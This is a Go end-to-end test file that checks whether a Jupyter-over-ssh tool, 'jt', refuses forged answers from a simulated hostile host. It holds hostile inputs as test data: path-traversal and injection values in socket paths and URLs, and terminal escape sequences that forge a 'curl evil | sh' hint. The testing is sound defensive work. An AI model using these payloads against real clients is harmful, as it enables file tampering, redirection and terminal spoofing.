package e2e

// End-to-end tests against a hostile host: the user jthostile's login
// shell runs the real /bin/sh and rewrites what jt's scripts answer
// ($HOME/filter), and its jupyter (first on PATH, in ~/.local/bin) writes
// the runtime file the test chose ($HOME/runtime.json). A host may serve
// a bad notebook; it must never reach the laptop: each hostile answer
// ends jt with one error line, changes no file outside jt's directories,
// reaches no ssh argv and sends nothing to the address it points at.

import (
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// fakeJupyter stands in for Jupyter on the hostile host: it writes the
// runtime file the test chose and stays up until the test removes it.
const fakeJupyter = `#!/bin/sh
[ -f "$HOME/runtime.json" ] || exit 1
rt="$JUPYTER_RUNTIME_DIR/nbserver-$$.json"
sed "s/@PID@/$$/g" "$HOME/runtime.json" >"$rt"
n=0
while [ -f "$HOME/runtime.json" ] && [ -f "$rt" ] && [ $n -lt 1200 ]; do
	sleep 0.1
	n=$((n + 1))
done
`

// hostileWrite writes a file into the hostile user's home, owned by them.
func hostileWrite(t *testing.T, rel, content string, mode os.FileMode) {
	t.Helper()
	u, err := user.Lookup(userHostile)
	if err != nil {
		t.Fatalf("user %s: %v", userHostile, err)
	}
	uid, _ := strconv.Atoi(u.Uid)
	gid, _ := strconv.Atoi(u.Gid)
	path := filepath.Join(u.HomeDir, rel)
	for d := filepath.Dir(path); d != u.HomeDir && d != "/"; d = filepath.Dir(d) {
		defer os.Chown(d, uid, gid)
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(path, uid, gid); err != nil {
		t.Fatal(err)
	}
}

// byteSink is a TCP listener on 127.0.0.1 that counts what it receives.
type byteSink struct {
	ln   net.Listener
	port int
	mu   sync.Mutex
	got  bytes.Buffer
	hits int
}

func newByteSink(t *testing.T) *byteSink {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &byteSink{ln: ln, port: ln.Addr().(*net.TCPAddr).Port}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			s.mu.Lock()
			s.hits++
			s.mu.Unlock()
			go func() {
				defer c.Close()
				c.SetReadDeadline(time.Now().Add(5 * time.Second))
				b, _ := io.ReadAll(io.LimitReader(c, 1<<16))
				s.mu.Lock()
				s.got.Write(b)
				s.mu.Unlock()
			}()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return s
}

func (s *byteSink) received() (int, string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.hits, s.got.String()
}

const goodToken = "c0ffee0123456789abcdef"

// fakeServer answers as Jupyter would, on the "remote" 127.0.0.1 (this
// machine is both ends): /api/status with the right token, /api to anyone.
func fakeServer(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/api":
			w.Write([]byte(`{"version": "6.4.12"}`))
		case r.URL.Path == "/api/status" && r.Header.Get("Authorization") == "token "+goodToken:
			w.Write([]byte(`{}`))
		default:
			w.WriteHeader(http.StatusForbidden)
		}
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().(*net.TCPAddr).Port
}

// runtimeJSON is a runtime file of notebook 6; fields override its values
// with raw JSON.
func runtimeJSON(port int, fields map[string]string) string {
	f := map[string]string{
		"base_url": `"/"`, "hostname": `"localhost"`, "notebook_dir": `"/tmp"`, "password": "false",
		"pid": "@PID@", "port": strconv.Itoa(port), "secure": "false", "sock": `""`,
		"token": `"` + goodToken + `"`, "url": `"http://localhost:` + strconv.Itoa(port) + `/"`, "version": `"6.4.12"`,
	}
	for k, v := range fields {
		f[k] = v
	}
	var parts []string
	for _, k := range []string{"base_url", "hostname", "notebook_dir", "password", "pid", "port", "secure", "sock", "token", "url", "version"} {
		parts = append(parts, `"`+k+`": `+f[k])
	}
	return "{\n  " + strings.Join(parts, ",\n  ") + "\n}\n"
}

// hostileEnv is a local env that talks to the hostile host.
type hostileEnv struct {
	*env
	argv   string    // ssh argv log (JT_SSH)
	sink   *byteSink // where hostile values point
	server int       // the port of fakeServer
}

func newHostileEnv(t *testing.T) *hostileEnv {
	t.Helper()
	e := newEnv(t)
	h := &hostileEnv{env: e, argv: e.sshLogger(), sink: newByteSink(t), server: fakeServer(t)}
	home := e2e.box.Home(userHostile)
	if home == "" {
		t.Fatalf("box user %s is missing", userHostile)
	}
	hostileWrite(t, ".local/bin/jupyter", fakeJupyter, 0o755)
	// Before the env's cleanup (which closes through this host): the host
	// tells the truth again and its fake servers end.
	t.Cleanup(func() {
		os.Remove(filepath.Join(home, "filter"))
		h.endFakes(t)
	})
	return h
}

// snapshot lists the files of the test's directory outside jt's own
// directories, and the /tmp entries a redirect page could have become.
func (h *hostileEnv) snapshot(t *testing.T) map[string]string {
	t.Helper()
	own := map[string]bool{filepath.Join(h.State, "jt"): true, filepath.Join(h.Runtime, "jt"): true, h.argv: true}
	files := map[string]string{}
	filepath.WalkDir(h.dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if own[path] {
			if d.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		if fi, err := d.Info(); err == nil {
			files[path] = fmt.Sprintf("%v %d %v", fi.Mode(), fi.Size(), fi.ModTime().UnixNano())
			if d.IsDir() {
				files[path] = fi.Mode().String() // its entries are listed themselves
			}
		}
		return nil
	})
	ents, _ := os.ReadDir("/tmp")
	for _, ent := range ents {
		n := ent.Name()
		if strings.HasSuffix(n, ".html") || strings.Contains(n, "victim") || strings.HasSuffix(n, ".sock") {
			if fi, err := ent.Info(); err == nil {
				files["/tmp/"+n] = fmt.Sprintf("%v %d %v", fi.Mode(), fi.Size(), fi.ModTime().UnixNano())
			}
		}
	}
	return files
}

// endFakes ends the fake servers of the last lie and removes the remote
// session, so that each lie starts a new one. A window whose server ended
// writes its exit file: only then may the directory go, else that late
// write would land in the next session's new directory.
func (h *hostileEnv) endFakes(t *testing.T) {
	t.Helper()
	home := e2e.box.Home(userHostile)
	os.Remove(filepath.Join(home, "runtime.json"))
	sessions := filepath.Join(home, ".local", "state", "jt", "sessions")
	wins, _ := filepath.Glob(filepath.Join(sessions, "*", "window.pid"))
	deadline := time.Now().Add(10 * time.Second)
	for _, w := range wins {
		for {
			if _, err := os.Stat(filepath.Join(filepath.Dir(w), "exit")); err == nil {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("the fake server of %s did not end", filepath.Dir(w))
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	if err := os.RemoveAll(filepath.Join(home, ".local", "state", "jt")); err != nil {
		t.Fatal(err)
	}
}

// hostileCase is one lie of the host.
type hostileCase struct {
	name    string
	filter  string            // sh program that rewrites the answers; "" = none
	fields  map[string]string // runtime file fields, raw JSON
	args    []string          // extra jt open arguments
	hostile []string          // values no ssh argv may hold
	browser bool              // let jt open a browser (a redirect file)
	want    string            // what the error line says
}

// refuses runs jt open against the lie and checks that it was refused.
func (h *hostileEnv) refuses(t *testing.T, c hostileCase) {
	t.Helper()
	home := e2e.box.Home(userHostile)
	h.endFakes(t)
	hostileWrite(t, "runtime.json", runtimeJSON(h.server, c.fields), 0o600)
	if c.filter != "" {
		hostileWrite(t, "filter", c.filter, 0o600)
	} else {
		os.Remove(filepath.Join(home, "filter"))
	}
	before := h.snapshot(t)
	if err := os.WriteFile(h.argv, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	args := []string{"open", "--json", "--mux", "none", "--timeout", "20s", "--name", "hostile"}
	if !c.browser {
		args = append(args, "--no-browser")
	}
	args = append(append(args, c.args...), hostHostile)
	stdout, stderr, code := h.run(args...)

	if code == 0 {
		t.Errorf("jt open took the lie: exit 0")
	}
	if strings.TrimSpace(stdout) != "" {
		t.Errorf("stdout should be empty: %q", stdout)
	}
	var errLines, hintLines int
	for _, l := range strings.Split(stderr, "\n") {
		if strings.HasPrefix(l, "jt: error:") {
			errLines++
		}
		if strings.HasPrefix(l, "jt: hint:") {
			hintLines++
		}
	}
	if errLines != 1 || hintLines > 1 {
		t.Errorf("stderr has %d jt: error: lines and %d jt: hint: lines, want 1 and at most 1:\n%s", errLines, hintLines, stderr)
	}
	if !strings.Contains(stderr, "jt: error: "+c.want) {
		t.Errorf("stderr does not say %q:\n%s", "jt: error: "+c.want, stderr)
	}
	if strings.ContainsAny(stderr, "\x1b\r\x07\x00") || strings.Contains(stderr, "\u009b") {
		t.Errorf("stderr holds control characters from the host: %q", stderr)
	}
	for _, call := range sshCalls(t, h.argv) {
		joined := strings.Join(call, " ")
		if slices.Contains(call, "forward") {
			t.Errorf("jt forwarded from a refused answer: ssh %s", shellJoin(call))
		}
		for _, v := range c.hostile {
			if strings.Contains(joined, v) {
				t.Errorf("an ssh argv holds the hostile value %q: ssh %s", v, shellJoin(call))
			}
		}
	}
	// A browser started as jt exits would run after this: give it a moment.
	time.Sleep(200 * time.Millisecond)
	after := h.snapshot(t)
	for p, b := range before {
		if a, ok := after[p]; !ok || a != b {
			t.Errorf("%s changed: %s → %q", p, b, a)
		}
	}
	for p, a := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("%s appeared: %s", p, a)
		}
	}
	if hits, got := h.sink.received(); hits != 0 {
		t.Errorf("the listener on 127.0.0.1:%d got %d connections: %q", h.sink.port, hits, got)
	}
	if h.recorded(hostHostile, "hostile") {
		t.Errorf("the refused session is recorded")
	}
}

// The harness itself: the same host, telling the truth through the same
// login shell and fake Jupyter, is opened, forwarded and probed; so the
// refusals below come from jt, not from a broken setup.
func TestE2EHostileControl(t *testing.T) {
	h := newHostileEnv(t)
	hostileWrite(t, "runtime.json", runtimeJSON(h.server, nil), 0o600)
	hostileWrite(t, "filter", "exec cat\n", 0o600)
	r := h.open(hostHostile, "honest", "--mux", "none", "--tcp")
	if r.RemotePort != h.server {
		t.Errorf("remote_port %d, want the fake server's %d", r.RemotePort, h.server)
	}
	mustAnswer(t, r.URL)
	forwarded := false
	for _, call := range sshCalls(t, h.argv) {
		forwarded = forwarded || slices.Contains(call, "forward")
	}
	if !forwarded {
		t.Errorf("no ssh -O forward in the argv log: the hostile tests' check for one proves nothing")
	}
}

func TestE2EHostileRefused(t *testing.T) {
	h := newHostileEnv(t)
	victim := fmt.Sprintf("jt-hostile-victim-%d", os.Getpid())
	victimPath := "/tmp/" + victim + ".html"
	if err := os.WriteFile(victimPath, []byte("precious\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(victimPath) })
	browser := filepath.Join(h.dir, "browser")
	writeArgvLogger(t, browser, filepath.Join(h.dir, "browser.argv"))
	h.setVar("BROWSER", browser)

	sink := "127.0.0.1:" + strconv.Itoa(h.sink.port)
	q := func(s string) string { return strconv.Quote(s) }
	cases := []hostileCase{
		{name: "forged name", want: "hosthostile answered a session name jt will not use", filter: `exec sed 's|^name=.*|name=/` + strings.Repeat("../", 12) + `tmp/` + victim + `|'` + "\n",
			args: []string{"--tcp"}, hostile: []string{victim}, browser: true},
		{name: "socket ${HOME}", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("${HOME}/j.sock")}, hostile: []string{"${HOME}", "/root/j.sock"}},
		{name: "socket %u", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/%u.sock")}, hostile: []string{"%u", "/tmp/root.sock"}},
		{name: "socket %d", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/%d/j.sock")}, hostile: []string{"%d", "/tmp//root/j.sock"}},
		{name: "socket colon", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/a:" + sink)}, hostile: []string{"/tmp/a:"}},
		{name: "socket space", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/a b.sock")}, hostile: []string{"/tmp/a b"}},
		{name: "socket newline", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/a\nb.sock")}, hostile: []string{"/tmp/a\n", "b.sock"}},
		{name: "base_url @", want: "hosthostile answered a base_url jt will not use", fields: map[string]string{"base_url": q("@" + sink + "/")}, args: []string{"--tcp"}, hostile: []string{"@127"}, browser: true},
		{name: "base_url //host", want: "hosthostile answered a base_url jt will not use", fields: map[string]string{"base_url": q("//" + sink + "/")}, args: []string{"--tcp"}, hostile: []string{"//127"}, browser: true},
		{name: "token quotes and spaces", want: "hosthostile answered a token jt will not use", fields: map[string]string{"token": q(`a" b'c d`)}, args: []string{"--tcp"}, hostile: []string{`a" b'c`}},
		{name: "port 0", want: "hosthostile answered a port jt will not use", args: []string{"--tcp"}, fields: map[string]string{"port": "0"}},
		{name: "port 70000", want: "hosthostile answered a port jt will not use", args: []string{"--tcp"}, fields: map[string]string{"port": "70000"}, hostile: []string{"70000"}},
		{name: "port -1", want: "hosthostile answered a port jt will not use", args: []string{"--tcp"}, fields: map[string]string{"port": "-1"}},
		{name: "1 MB answer", want: "hosthostile answered an answer jt will not use", args: []string{"--tcp"},
			filter: `exec awk '{ print } $0 == "@@JT-SESSION@@" { s = "pad="; while (length(s) < 1100000) s = s s; print s }'` + "\n"},
		{name: "escape sequences in an error", want: `jupyter failed\x1b]0;owned\x07\x1b[2J\x0djt: hint: curl evil | sh`,
			filter: `cat >/dev/null
printf '@@JT-ERROR@@\nerror=jupyter failed\033]0;owned\007\033[2J\rjt: hint: curl evil | sh\nhint=\033[1A\rjt: error: forged \302\233 too\n@@JT-LOG@@\n|\033[31mred\n@@JT-END@@\n'
`},
	}
	for _, c := range cases {
		t.Run(strings.NewReplacer("/", "_", " ", "_").Replace(c.name), func(t *testing.T) {
			h.refuses(t, c)
		})
	}
	if data, err := os.ReadFile(victimPath); err != nil || string(data) != "precious\n" {
		t.Errorf("%s: %q, %v; want it untouched", victimPath, data, err)
	}
	if _, err := os.Stat(filepath.Join(h.dir, "browser.argv")); err == nil {
		t.Errorf("jt opened a browser for a refused answer")
	}
}
